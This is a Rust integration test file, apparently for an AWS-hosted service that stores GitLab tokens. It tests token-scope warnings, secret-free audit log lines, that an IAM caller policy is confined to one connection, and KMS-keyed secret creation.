            let (status, reply) = send(&env.api, post("credentials.update", &relabel)).await;
            assert_eq!(status, 200, "scheduled {scheduled}: {reply}");
        }
    }
}

// ---------------------------------------------------------------------------------------------------------------
// token scopes

/// Scopes beyond reading are accepted, recorded on the credential item, shown by every reply as `excess_scopes`
/// and logged (never the token) at each create and update.
#[tokio::test]
async fn scopes_and_excess_scopes_are_recorded_shown_and_warned_of() {
    let logs = captured_logs();
    let env = env().await;
    let reader = create(&env, GOOD).await;
    let writer = create(&env, ROTATED).await;
    assert_eq!(
        (&reader["scopes"], &reader["excess_scopes"]),
        (&json!(["read_api"]), &json!([]))
    );
    assert_eq!(
        (&writer["scopes"], &writer["excess_scopes"]),
        (&json!(["api"]), &json!(["api"]))
    );
    let writer_id = writer["id"].as_str().unwrap().to_owned();
    let reader_id = reader["id"].as_str().unwrap().to_owned();
    let (_, info) = send(&env.api, get(&format!("credentials.info/{writer_id}"))).await;
    assert_eq!(info["credential"]["excess_scopes"], json!(["api"]));
    let (_, list) = send(&env.api, get("credentials.list")).await;
    let listed: BTreeMap<&str, &Value> = list["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["id"].as_str().unwrap(), &c["excess_scopes"]))
        .collect();
    assert_eq!(listed[writer_id.as_str()], &json!(["api"]));
    assert_eq!(listed[reader_id.as_str()], &json!([]));
    // A top-level attribute of the credential item.
    let item = env
        .aws
        .state_item(&format!("CONN#{CONN}"), &format!("CRED#{writer_id}"))
        .await;
    assert_eq!(
        item["scopes"].as_l().unwrap(),
        &[AttributeValue::S("api".into())]
    );

    // Rotating the reader to the `api` token shows the excess; rotating back clears it.
    for (token, excess) in [(ROTATED, json!(["api"])), (GOOD, json!([]))] {
        let (status, updated) = send(
            &env.api,
            post(
                "credentials.update",
                &json!({"id": reader_id, "secrets": {"api_token": token}}),
            ),
        )
        .await;
        assert_eq!(status, 200, "{updated}");
        assert_eq!(updated["credential"]["excess_scopes"], excess);
    }

    // The warning names the credential and the scopes, at WARN: at every level the template allows but ERROR.
    for (level, captured) in &logs.by_level {
        let text = captured.text();
        let warned = |id: &str| {
            text.lines()
                .filter(|l| l.contains("scopes beyond reading") && l.contains(id))
                .count()
        };
        let expected = usize::from(level != "ERROR");
        assert_eq!(warned(&writer_id), expected, "{level}: {text}");
        assert_eq!(
            warned(&reader_id),
            expected,
            "{level}: only the update to `api`"
        );
        assert!(!text.contains(ROTATED), "{level}");
    }
    assert!(logs.by_level.iter().any(|(level, _)| level == "WARN"));

    // A credential verified before scopes were recorded shows neither, until its next update.
    env.aws
        .dynamodb
        .update_item()
        .table_name(env.aws.table("StateTable"))
        .key("pk", AttributeValue::S(format!("CONN#{CONN}")))
        .key("sk", AttributeValue::S(format!("CRED#{writer_id}")))
        .update_expression("REMOVE scopes")
        .send()
        .await
        .unwrap();
    let (_, info) = send(&env.api, get(&format!("credentials.info/{writer_id}"))).await;
    assert_eq!(
        (
            &info["credential"]["scopes"],
            &info["credential"]["excess_scopes"]
        ),
        (&Value::Null, &Value::Null)
    );
}

// ---------------------------------------------------------------------------------------------------------------
// the audit line

/// `req` with API Gateway's request id `request_id`, signed by `caller` (an IAM ARN), or unsigned.
fn as_sent_by(req: Request, caller: Option<&str>, request_id: &str) -> Request {
    use lambda_http::request::RequestContext;
    let RequestContext::ApiGatewayV2(mut context) = req.request_context() else {
        panic!("the samples are API Gateway v2 events");
    };
    context.request_id = Some(request_id.to_owned());
    match caller {
        Some(arn) => {
            let iam = context.authorizer.as_mut().unwrap().iam.as_mut().unwrap();
            iam.user_arn = Some(arn.to_owned());
        }
        None => context.authorizer = None,
    }
    req.with_request_context(RequestContext::ApiGatewayV2(context))
}

/// The one log line that tells of request `request_id`.
fn audit_line(request_id: &str) -> Value {
    let text = captured_logs().json.text();
    let lines: Vec<Value> = text
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|line| line["request_id"] == request_id)
        .collect();
    assert_eq!(lines.len(), 1, "{request_id}: {lines:#?}");
    lines.into_iter().next().unwrap()
}

/// Each route's call, and calls refused before, during and after the use case, leave one JSON line each: the
/// caller's IAM ARN, the request id (which the stage's access log has too), route, connection, the credential the
/// call names or created, result code and status. No field holds anything else: no body, no token.
#[tokio::test]
async fn every_call_leaves_one_audit_line_without_body_or_token() {
    let env = env().await;
    let run = format!(
        "audit-{}-{}",
        std::process::id(),
        NEXT_PREFIX.fetch_add(1, Ordering::Relaxed)
    );
    let caller = format!("arn:aws:sts::123456789012:assumed-role/backoffice/{run}");
    const LABEL: &str = "label-text-that-stays-out-of-the-logs";
    let mut seq = 0;
    let mut call = async |req: Request, signed: bool| {
        seq += 1;
        let request_id = format!("{run}-{seq}");
        let signer = signed.then_some(caller.as_str());
        let (status, reply) = send(&env.api, as_sent_by(req, signer, &request_id)).await;
        (status, reply, audit_line(&request_id))
    };
    let mut body = create_body(&env, GOOD);
    body["label"] = LABEL.into();
    let (status, reply, created) = call(post("credentials.create", &body), true).await;
    assert_eq!(status, 201, "{reply}");
    let id = reply["credential"]["id"].as_str().unwrap().to_owned();
    let mut hook_secrets = vec![reply["push_hook"]["secret"].as_str().unwrap().to_owned()];
    let (status, reply, rotated) = call(post("hooks.rotate", &json!({})), true).await;
    assert_eq!(status, 200, "{reply}");
    hook_secrets.push(reply["push_hook"]["secret"].as_str().unwrap().to_owned());
    let update = json!({"id": id, "label": LABEL, "secrets": {"api_token": ROTATED}});
    let mut lines = vec![
        (created, "credentials.create", Some(id.as_str()), "ok", 201),
        (rotated, "hooks.rotate", None, "ok", 200),
        {
            let (_, _, line) = call(post("credentials.update", &update), true).await;
            (line, "credentials.update", Some(id.as_str()), "ok", 200)
        },
        {
            let (_, _, line) = call(get(&format!("credentials.info/{id}")), true).await;
            (line, "credentials.info", Some(id.as_str()), "ok", 200)
        },
        {
            let (_, _, line) = call(get("credentials.list"), true).await;
            (line, "credentials.list", None, "ok", 200)
        },
    ];
    // Refused by GitLab (the credential is named), by the method check, and ours to fix (a 5xx, at WARN).
    let revoked = json!({"id": id, "label": LABEL, "secrets": {"api_token": REVOKED}});
    let (_, _, line) = call(post("credentials.update", &revoked), true).await;
    lines.push((
        line,
        "credentials.update",
        Some(id.as_str()),
        "invalid_credentials",
        401,
    ));
    let (_, _, line) = call(get("credentials.create"), true).await;
    lines.push((line, "credentials.create", None, "method_not_allowed", 405));
    env.sim.fail_next("*", 6, Fault::ServerError(502));
    let mut unreachable = create_body(&env, UNKNOWN);
    unreachable["label"] = LABEL.into();
    let (_, _, line) = call(post("credentials.create", &unreachable), true).await;
    lines.push((line, "credentials.create", None, "gitlab_unreachable", 502));
    let (_, _, line) = call(post("credentials.delete", &json!({"id": id})), true).await;
    lines.push((line, "credentials.delete", Some(id.as_str()), "ok", 200));

    for (line, route, credential, result, status) in &lines {
        let text = line.to_string();
        assert_eq!(line["caller"], caller.as_str(), "{text}");
        assert_eq!(line["route"], *route, "{text}");
        assert_eq!(line["connection_id"], CONN, "{text}");
        assert_eq!(line["credential_id"].as_str(), *credential, "{text}");
        assert_eq!(line["result"], *result, "{text}");
        assert_eq!(line["status"], *status, "{text}");
        let (level, message) = if *status >= 500 {
            ("WARN", "request failed")
        } else {
            ("INFO", "request handled")
        };
        assert_eq!(
            (line["level"].as_str(), line["message"].as_str()),
            (Some(level), Some(message))
        );
        let mut keys: Vec<&str> = line
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        keys.sort_unstable();
        let mut expected = vec![
            "caller",
            "connection_id",
            "level",
            "message",
            "request_id",
            "result",
            "route",
            "status",
            "timestamp",
        ];
        expected.extend(credential.map(|_| "credential_id"));
        expected.sort_unstable();
        assert_eq!(keys, expected, "{text}");
        assert!(!text.contains(LABEL), "a body field is logged: {text}");
        for token in ALL_TOKENS {
            assert!(!text.contains(token), "{token} is logged: {text}");
        }
        for secret in &hook_secrets {
            assert!(
                !text.contains(secret),
                "a push hook secret is logged: {text}"
            );
        }
    }

    // Unsigned (a local run, or refused as not_authed here): a placeholder, never an empty caller.
    seq += 1;
    let request_id = format!("{run}-{seq}");
    let (status, _) = send(
        &env.api,
        as_sent_by(post("credentials.create", &body), None, &request_id),
    )
    .await;
    assert_eq!(status, 401);
    let line = audit_line(&request_id);
    assert_eq!(
        line["caller"],
        shared::entrypoints::credentials_api::UNSIGNED_CALLER
    );
    assert_eq!(
        (line["result"].as_str(), line["route"].as_str()),
        (Some("not_authed"), Some("unknown"))
    );
    assert!(!line.to_string().contains(GOOD));
}

// ---------------------------------------------------------------------------------------------------------------
// who may call what

/// Whether IAM's wildcard `pattern` matches `value`: `*` is any run of characters (`/` too), `?` any one.
fn iam_matches(pattern: &str, value: &str) -> bool {
    let (pattern, value): (Vec<char>, Vec<char>) =
        (pattern.chars().collect(), value.chars().collect());
    // Classic glob matching, remembering the last `*` to backtrack to: linear in practice, no recursion.
    let (mut p, mut v, mut star, mut resume) = (0, 0, None, 0);
    while v < value.len() {
        if p < pattern.len() && (pattern[p] == '?' || pattern[p] == value[v]) {
            p += 1;
            v += 1;
        } else if p < pattern.len() && pattern[p] == '*' {
            star = Some(p);
            resume = v;
            p += 1;
        } else if let Some(s) = star {
            p = s + 1;
            resume += 1;
            v = resume;
        } else {
            return false;
        }
    }
    pattern[p..].iter().all(|c| *c == '*')
}

#[test]
fn iam_wildcards_match_as_iam_matches_them() {
    assert!(iam_matches("a/*/c", "a/b/x/c"), "* crosses /");
    assert!(iam_matches("a?c", "abc") && !iam_matches("a?c", "abbc"));
    assert!(iam_matches("*", "") && iam_matches("a*", "a"));
    assert!(!iam_matches("a/*/c", "a/b/cd") && !iam_matches("abc", "abC"));
}

const REGION: &str = "eu-west-1";
const ACCOUNT: &str = "123456789012";
const API_ID: &str = "a1b2c3d4e5";

/// The README's caller policy for `connection`: its Allow resources, placeholders filled in.
fn caller_policy(connection: &str) -> Vec<String> {
    let path = format!(
        "{}/../docs/caller-policy-one-connection.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let policy: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let statements = policy["Statement"].as_array().unwrap();
    assert_eq!(statements.len(), 1, "one statement, nothing else granted");
    let statement = &statements[0];
    assert_eq!(statement["Effect"], "Allow");
    assert_eq!(statement["Action"], "execute-api:Invoke");
    let resources = match &statement["Resource"] {
        Value::Array(list) => list
            .iter()
            .map(|r| r.as_str().unwrap().to_owned())
            .collect(),
        one => vec![one.as_str().unwrap().to_owned()],
    };
    resources
        .into_iter()
        .map(|r| {
            r.replace("REGION", REGION)
                .replace("ACCOUNT_ID", ACCOUNT)
                .replace("API_ID", API_ID)
                .replace("CONNECTION_ID", connection)
        })
        .collect()
}

/// The ARN IAM checks for a request: `arn:aws:execute-api:<region>:<account>:<api>/<stage>/<METHOD>/<path>`.
fn invoke_arn(method: &str, path: &str) -> String {
    format!("arn:aws:execute-api:{REGION}:{ACCOUNT}:{API_ID}/$default/{method}{path}")
}

fn allowed(policy: &[String], method: &str, path: &str) -> bool {
    let arn = invoke_arn(method, path);
    policy.iter().any(|resource| iam_matches(resource, &arn))
}

/// Each route's path for `connection`, with its method.
fn route_paths(connection: &str) -> Vec<(&'static str, String)> {
    shared::entrypoints::credentials_api::Route::ALL
        .iter()
        .map(|(_, name, method, takes_id)| {
            let id = if *takes_id {
                "/cred_0123456789abcdefghjkmnpqrs"
            } else {
                ""
            };
            (*method, format!("/connections/{connection}/{name}{id}"))
        })
        .collect()
}

/// The policy lets a caller use every route of its own connection and nothing of another's, look-alikes
/// included (`acme` must not open `acme-2`: `*` crosses `/`, so the `/` after the id is what holds).
#[test]
fn the_caller_policy_opens_one_connection_and_no_other() {
    let policy = caller_policy("acme");
    for (method, path) in route_paths("acme") {
        assert!(allowed(&policy, method, &path), "{method} {path}");
    }
    for other in [
        "acme-2",
        "acme2",
        "acm",
        "xacme",
        "ACME",
        "acme_",
        "a",
        "acme-prod",
    ] {
        for (method, path) in route_paths(other) {
            assert!(
                !allowed(&policy, method, &path),
                "{method} {path} is open to acme's caller"
            );
        }
    }
    // The same policy for acme-2 opens acme-2 and not acme.
    let other = caller_policy("acme-2");
    assert!(
        route_paths("acme-2")
            .iter()
            .all(|(m, p)| allowed(&other, m, p))
    );
    assert!(
        !route_paths("acme")
            .iter()
            .any(|(m, p)| allowed(&other, m, p))
    );
}

/// Whatever path a caller makes up, a request the policy lets through reaches no connection but its own: every
/// path of up to five segments from a small alphabet, through the handler's own router.
#[test]
fn no_path_the_policy_lets_through_reaches_another_connection() {
    use shared::entrypoints::credentials_api::match_route;
    let policy = caller_policy("acme");
    let alphabet = [
        "connections",
        "acme",
        "acme-2",
        "credentials.list",
        "credentials.info",
        "cred_1",
        "$default",
        "",
    ];
    let (mut paths, mut let_through, mut routed_to_own) = (0, 0, 0);
    for length in 1..=5_u32 {
        for mut n in 0..alphabet.len().pow(length) {
            let mut path = String::new();
            for _ in 0..length {
                path.push('/');
                path.push_str(alphabet[n % alphabet.len()]);
                n /= alphabet.len();
            }
            paths += 1;
            for method in ["GET", "POST"] {
                if !allowed(&policy, method, &path) {
                    continue;
                }
                let_through += 1;
                if let Some((_, connection, _)) = match_route(&path) {
                    assert_eq!(connection, "acme", "{method} {path}");
                    routed_to_own += 1;
                }
            }
        }
    }
    assert!(paths > 30_000, "{paths}");
    assert!(
        let_through > 1_000 && routed_to_own > 10,
        "{let_through} {routed_to_own}"
    );
}

// ---------------------------------------------------------------------------------------------------------------
// the customer-managed key

/// With a KMS key configured, the secrets the vault creates name it (Secrets Manager encrypts with it); without
/// one, they name none (the AWS-managed key).
#[tokio::test]
async fn secrets_are_created_with_the_configured_kms_key() {
    use shared::credentials::SecretVault;
    let env = env().await;
    let key = format!("arn:aws:kms:{REGION}:{ACCOUNT}:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0");
    for (name, kms_key_id) in [("with-key", Some(key.clone())), ("managed-key", None)] {
        let vault =
            SecretsManagerVault::new(env.aws.secrets.clone()).with_kms_key_id(kms_key_id.clone());
        let secret = format!("{}{name}", env.prefix);
        let version = shared::credentials::model::new_secret_version_id();
        vault
            .create(
                &secret,
                &SecretString::new(GOOD),
                &version,
                &[("connection", CONN)],
            )
            .await
            .expect("create");
        let described = env
            .aws
            .secrets
            .describe_secret()
            .secret_id(&secret)
            .send()
            .await
            .expect("describe");
        assert_eq!(described.kms_key_id, kms_key_id, "{name}");
        let read = vault.read(&secret, Some(&version)).await.unwrap();
        assert_eq!(read.expose(), GOOD);
    }
}
